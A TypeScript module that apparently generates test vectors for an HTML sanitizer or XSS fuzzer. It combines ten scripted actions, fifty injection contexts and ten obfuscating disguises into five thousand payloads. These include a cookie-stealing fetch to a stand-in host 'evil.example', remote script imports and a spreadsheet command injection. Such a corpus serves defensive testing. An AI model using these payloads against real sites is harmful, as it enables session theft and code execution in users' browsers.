/** Five thousand texts that try to become something else where they are shown: each way in, with each thing to do, in each disguise. */

/** What would run. */
const acts = [
  'window.__x=1',
  'alert(1)',
  'confirm`1`',
  "import('//evil.example/x.js')",
  "fetch('//evil.example/'+document.cookie)",
  'top.__x=1',
  "eval('__x=1')",
  "document.body.innerHTML=''",
  'location="//evil.example"',
  'print()',
]

/** Ways in, with the act where `*` stands. */
const ways = [
  '<script>*</script>',
  '<img src=x onerror=*>',
  '<img src=x onerror="*" ',
  '<svg onload=*>',
  '<svg><script>*</script></svg>',
  '<svg><animate onbegin=* attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:*"><text>x</text></a></svg>',
  '<math><a xlink:href="javascript:*">x</a></math>',
  '<iframe srcdoc="<script>*</script>"></iframe>',
  '<iframe src="javascript:*"></iframe>',
  '<a href="javascript:*">x</a>',
  '<a href="java&#x0A;script:*">x</a>',
  '<form action="javascript:*"><button>x</button></form>',
  '<button formaction="javascript:*">x</button>',
  '<input autofocus onfocus=*>',
  '<details open ontoggle=*>',
  '<video><source onerror=*></video>',
  '<audio src=x onerror=*>',
  '<body onload=*>',
  '<marquee onstart=*>',
  '<object data="javascript:*"></object>',
  '<embed src="javascript:*">',
  '<style>@import "//evil.example/*";</style>',
  '<link rel="stylesheet" href="//evil.example/*">',
  '<meta http-equiv="refresh" content="0;url=javascript:*">',
  '<base href="//evil.example/*">',
  '<template><script>*</script></template>',
  '</textarea><img src=x onerror=*>',
  '</title><script>*</script>',
  '</style><script>*</script>',
  '--><script>*</script><!--',
  ']]><script>*</script>',
  '" onmouseover="*" x="',
  "' onfocus='*' autofocus x='",
  '` onclick=`*`',
  '${*}',
  '{{constructor.constructor("*")()}}',
  '<!--?lit$123456789$-->*<!--?-->',
  '?lit$123456789$*',
  '<foyer-panel onclick=*></foyer-panel>',
  '[x](javascript:*)',
  '![x](x" onerror="*)',
  'javascript:*',
  'data:text/html,<script>*</script>',
  'https://evil.example/"onmouseover="*',
  "https://evil.example/'><script>*</script>",
  'https://user:javascript@evil.example/?*',
  'http://evil.example/#javascript:*',
  '=cmd|"/C *"!A1',
  '<xss style="behavior:url(x);animation:x" onanimationstart=*>',
]

const entity = (text: string) => text.replace(/[<>"']/gu, (sign) => `&#${sign.codePointAt(0)!};`)
const alternating = (text: string) =>
  [...text].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign.toLowerCase())).join('')

/** Disguises. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  alternating,
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  entity,
  (text) => entity(entity(text)),
  encodeURIComponent,
  (text) => text.replaceAll('script', 'scr\u200Bipt'),
  (text) => `\u202E${text}\u202C`,
  (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
]

export const vectors = disguises.flatMap((disguise) =>
  ways.flatMap((way) => acts.map((act) => disguise(way.replace('*', () => act)))),
)
